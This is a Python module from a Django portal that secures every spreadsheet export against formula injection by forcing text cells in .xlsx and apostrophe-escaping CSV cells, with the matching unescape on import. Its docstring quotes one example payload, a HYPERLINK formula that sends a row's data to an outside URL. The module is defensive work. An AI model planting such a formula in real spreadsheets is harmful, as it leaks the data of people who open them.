"""The one path every spreadsheet the portal writes goes through.

Formula injection: a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return would be read by Excel or WPS as a formula (``=HYPERLINK("http://…?d="&B2,"点此核对")`` sends
the row away). So:

- in .xlsx every text cell is a text cell (never a formula), formatted as text (``@``) and marked
  with Excel's quote prefix, so that editing it keeps it text; the value itself is unchanged, and a
  file exported and imported again gives back the same values (身份证号 and codes stay text too);
- in .csv, which has no cell types, such a text is written with a leading apostrophe (OWASP's
  advice); ``text_unescape`` takes exactly that apostrophe off again on import.

Numbers, dates and booleans are written as such: figures stay figures.

Two ways in: ``SafeXLSX``/``SafeCSV`` (the admin's export formats, every resource) and
``spreadsheet_response`` (workbooks built by hand with openpyxl: the dashboard, the campaign
funnel). No other module saves a workbook or writes a CSV file (a test holds this)."""

from __future__ import annotations

import csv
import datetime
import io
import re
from urllib.parse import quote

import tablib
from django.http import HttpResponse
from django.utils import timezone
from django.utils.translation import gettext as _
from import_export.formats.base_formats import CSV, XLSX
from openpyxl import Workbook
from openpyxl.styles import Font
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TEXT_FORMAT = "@"
SHEET_TITLE_MAX = 31  # Excel's limit
_SHEET_TITLE_BAD = re.compile(r"[\\/*?:\[\]]")


def _is_formula_like(value: str) -> bool:
    # An apostrophe already in front of a formula start is escaped again, so unescaping is exact.
    return value.lstrip("'")[:1] in FORMULA_STARTS if value else False


def text_escape(value: str) -> str:
    """A text for a CSV cell: ``"=1+2"`` → ``"'=1+2"``; other text unchanged."""
    return "'" + value if _is_formula_like(value) else value


def text_unescape(value: str) -> str:
    """The inverse of ``text_escape``, for imports: ``"'=1+2"`` → ``"=1+2"``; ``"'abc"`` unchanged."""
    return value[1:] if value.startswith("'") and _is_formula_like(value) else value


def heading(title: str, unit: str = "") -> str:
    """A column heading with its unit once: ``("问题线索", "件")`` and ``("问题线索（件）", "件")`` both
    give ``问题线索（件）``."""
    title, unit = str(title), str(unit or "")
    if not unit or title.endswith((f"（{unit}）", f"({unit})")):
        return title
    return f"{title}（{unit}）"


def sheet_title(title: str | None) -> str:
    """A title Excel accepts (no ``\\/*?:[]``, at most 31 characters); ``数据`` when there is none."""
    title = _SHEET_TITLE_BAD.sub("-", str(title or "")).strip()
    return title[:SHEET_TITLE_MAX] or _("数据")


def _cell_value(value):
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        return timezone.localtime(value).replace(tzinfo=None)  # Excel has no time zones
    return value


def sheet_secure(sheet: Worksheet) -> None:
    """Every text cell of ``sheet`` made a text cell: never a formula, text format, quote prefix."""
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f":  # openpyxl takes any text starting with "=" for a formula
                cell.data_type = "s"
            if isinstance(cell.value, str):
                cell.number_format = TEXT_FORMAT
                if _is_formula_like(cell.value):
                    cell.quotePrefix = True


def workbook_bytes(workbook: Workbook) -> bytes:
    """The .xlsx file of ``workbook``, every sheet secured (``sheet_secure``)."""
    for sheet in workbook.worksheets:
        sheet_secure(sheet)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def spreadsheet_response(workbook: Workbook, filename: str) -> HttpResponse:
    """A download of ``workbook`` (secured); ``filename`` may be Chinese (RFC 6266 ``filename*``)."""
    response = HttpResponse(workbook_bytes(workbook), content_type=XLSX_CONTENT_TYPE)
    ascii_name = filename.encode("ascii", "replace").decode().replace("?", "_").replace('"', "_")
    response["Content-Disposition"] = f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{quote(filename)}"
    return response


def header_append(sheet: Worksheet, headings: list) -> None:
    """A bold heading row."""
    sheet.append([str(h) for h in headings])
    for cell in sheet[sheet.max_row]:
        cell.font = Font(bold=True)


def dataset_workbook(dataset: tablib.Dataset) -> Workbook:
    """A tablib dataset (an import-export resource's export) as a workbook: the dataset's title as the
    sheet name, bold headings, the heading row frozen, values as they are (numbers stay numbers)."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title(dataset.title)
    if dataset.headers:
        header_append(sheet, dataset.headers)
        sheet.freeze_panes = "A2"
    for row in dataset:
        sheet.append([_cell_value(value) for value in row])
    for index, column in enumerate(sheet.iter_cols(max_row=min(sheet.max_row, 200)), start=1):
        width = max((len(str(c.value or "")) for c in column), default=8)
        sheet.column_dimensions[sheet.cell(1, index).column_letter].width = min(max(width * 2, 10), 50)
    return workbook


def refused_rows_workbook(title: str, headers: list[str], rows: list[tuple[int, list, str]]) -> bytes:
    """The refused rows of an import as an .xlsx the clerk corrects and imports again: 行号 (the
    row's number in the uploaded file), the row's own columns as they were uploaded, and 原因 (why
    it was refused). ``rows``: ``(row number, values in header order, reason)``. The extra columns
    are ignored by a new import, so the corrected report itself can be imported."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title(title)
    header_append(sheet, [_("行号"), *headers, _("原因")])
    sheet.freeze_panes = "B2"
    for number, values, reason in rows:
        sheet.append([number, *(_cell_value(v) for v in values), reason])
    sheet.column_dimensions[sheet.cell(1, len(headers) + 2).column_letter].width = 60
    return workbook_bytes(workbook)


class SafeXLSX(XLSX):
    """The admin's Excel export (``sheet_secure``); importing is django-import-export's own."""

    def export_data(self, dataset, **kwargs):
        return workbook_bytes(dataset_workbook(dataset))


class SafeCSV(CSV):
    """The admin's CSV: exported with text escaped (``text_escape``), UTF-8 with a BOM so that Excel
    on Chinese Windows reads it; imported with that escape taken off again (``text_unescape``)."""

    def create_dataset(self, in_stream, **kwargs):
        dataset = super().create_dataset(in_stream, **kwargs)
        rows = [[text_unescape(v) if isinstance(v, str) else v for v in row] for row in dataset]
        return tablib.Dataset(*rows, headers=dataset.headers, title=dataset.title)

    def export_data(self, dataset, **kwargs):
        buffer = io.StringIO()
        buffer.write("\ufeff")
        writer = csv.writer(buffer)
        if dataset.headers:
            writer.writerow([text_escape(str(h)) for h in dataset.headers])
        for row in dataset:
            writer.writerow(
                [text_escape(v) if isinstance(v, str) else "" if v is None else _cell_value(v) for v in row]
            )
        return buffer.getvalue()


EXPORT_FORMATS = [SafeXLSX, SafeCSV]
# Imports are read by governance.imports (IMPORT_FORMATS there), which takes the CSV escape off too.
